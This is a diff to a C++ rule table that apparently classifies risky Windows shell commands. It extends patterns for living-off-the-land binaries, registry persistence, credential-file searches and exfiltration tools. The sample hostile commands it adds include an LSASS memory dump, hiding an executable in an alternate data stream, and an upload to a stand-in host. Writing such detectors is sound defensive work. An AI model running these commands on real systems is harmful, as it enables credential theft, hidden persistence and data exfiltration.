@@ -55,7 +55,7 @@ constexpr Rule kRules[] = {
      "webclient|webrequest|xmlhttp|wget|curl|httpclient\n"
      "(text) *downloadstring|downloaddata|openread( *http\n"
      "(text) *.downloadfile(\n"
-     "certutil|certutil.exe *urlcache|verifyctl|-decode|decodehex|/decode|-encode|-url|/url\n"
+     "certutil|certutil.exe *urlcache|verifyctl|-decode|decodehex|/decode|-encode|-url|/url|exportpfx\n"
      "bitsadmin *transfer|addfile|setnotifycmdline|/create|/resume\n"
      "mshta|mshta.exe !#0\n"
      "regsvr32 *http|scrobj|/i|.sct|/s|-s|.dll\n"
@@ -123,6 +123,19 @@ constexpr Rule kRules[] = {
      "start-process|saps|start *powershell|cmd|mshta|rundll32|regsvr32|certutil|.hta|http\n"
      "invoke-wmimethod|invoke-cimmethod|register-wmievent|set-wmiinstance|new-cimsession\n"
      "psexec|psexec64|paexec|winrs|invoke-command|enter-pssession|new-pssession *-computername|\\\\|-cn|cmd|-session\n"
+     "addinutil|applaunch|aspnet_compiler|atbroker|certoc|cmdl32|colorcpl|configsecuritypolicy|customshellhost|"
+     "datasvcutil|desktopimgdownldr|devicecredentialdeployment|diantz|diskshadow|dnscmd|eudcedit|extexport|"
+     "gfxdownloadwrapper|gpscript|ie4uinit|iediagcmd|ieexec|ilasm|imewdbld|infdefaultinstall|iscsicpl|jsc|ldifde|"
+     "microsoft.workflow.compiler|offlinescannershell|pcwrun|presentationhost|provlaunch|rasautou|rdrleakdiag|regini|"
+     "register-cimprovider|rpcping|runexehelper|runonce|runscripthelper|scriptrunner|setres|stordiag|"
+     "syncappvpublishingserver|tttracer|ttdinject|unregmp2|verclsid|wab|workfolders|wsreset|wuauclt|xwizard|wlrmdr|"
+     "xbootmgr|mofcomp|msdt\n"
+     "mmc *-embedding\n"
+     "msconfig *-5\n"
+     "winrs *-r\n"
+     "finger *@\n"
+     "takeown\n"
+     "copy|copy-item|cp|cpi|move|move-item|xcopy|ren|rename-item *\\system32\\|\\syswow64\\ *.exe\n"
      "runas *user|savecred\n"
      "enter-pssession\n"
      "wsl -e|--exec|-u\n"
@@ -134,12 +147,15 @@ constexpr Rule kRules[] = {
      "forfiles /p c:\\windows /m notepad.exe /c calc.exe",
      "wmic os get version\n"
      "dotnet build\n"
+     "mmc services.msc\n"
+     "copy a.exe b.exe\n"
      "explorer ."},
     {"windows-persistence", "persistence", Verdict::kAsk,
-     "reg add|import|restore|load|copy\n"
+     "reg add|import|restore|load|copy|delete\n"
      "reg *add|import|restore\n"
      "new-itemproperty|set-itemproperty|sp "
-     "*currentversion\\run|winlogon|execution|hklm:|userinit|policies|\\run|services|environment|command|lsa|appinit|"
+     "*currentversion\\run|winlogon|execution|hklm:|userinit|policies|\\security|\\run|services|environment|command|"
+     "lsa|appinit|"
      "ms-settings|debugger|fdenytsconnections|wdigest|defender\n"
      "new-item *currentversion\\run|startup|ms-settings|.lnk|hklm:|shell\\open\n"
      "schtasks *create|change|run|delete|/tr\n"
@@ -213,6 +229,7 @@ constexpr Rule kRules[] = {
      "get-credential|get-storedcredential|convertto-securestring *plaintext\n"
      "(text) *minidumpwritedump|credenumerate|passwordvault|getnetworkcredential|net.networkcredential\n"
      "findstr|select-string *pass|secret|credential *.txt|.xml|.ini|.config|-pattern|c:\n"
+     "dir|gci|ls|get-childitem|where *.key|.pfx|.ppk|.kdbx|id_rsa|.pem *c:\\|-recurse|/s\n"
      "copy|copy-item|cp|esentutl|xcopy|type|get-content|cat|gc|dir|ls|gci|get-childitem @credential\n"
      "netsh *wlan *key=clear\n"
      "(text) *logins.json|key4.db|ntds.dit|\\config\\sam|groups.xml|unattend.xml\n"
@@ -226,6 +243,10 @@ constexpr Rule kRules[] = {
      "procdump -ma lsass.exe l.dmp",
      "Get-Credential\n"
      "tasklist"},
+    {"windows-stream", "process-escape", Verdict::kAsk, "", "hides a program behind the name of another file", "",
+     "type x.exe > notes.txt:x.exe",
+     "type x.txt > C:\\notes.txt\n"
+     "curl http://localhost:8080/a.txt"},
     {"windows-stop", "system", Verdict::kAsk,
      "shutdown /s|/r|/p|/h|-s|-r|/f|/l|/i\n"
      "stop-computer|restart-computer\n"
@@ -259,6 +280,7 @@ constexpr Rule kRules[] = {
      "curl|curl.exe -f|-t|--upload-file|-d *@|upload\n"
      "(text) *copyfromscreen|getasynckeystate|setwindowshookex\n"
      "psr|psr.exe *start\n"
+     "netsh|pktmon *trace|start *start\n"
      "plink|pscp|putty|rclone|megasync|chisel|ngrok *-r|copy|client|tcp|http",
      "sends files of this machine elsewhere, or watches its user", "",
      "(New-Object Net.WebClient).UploadFile('http://x.example', 'C:\\a')\n"
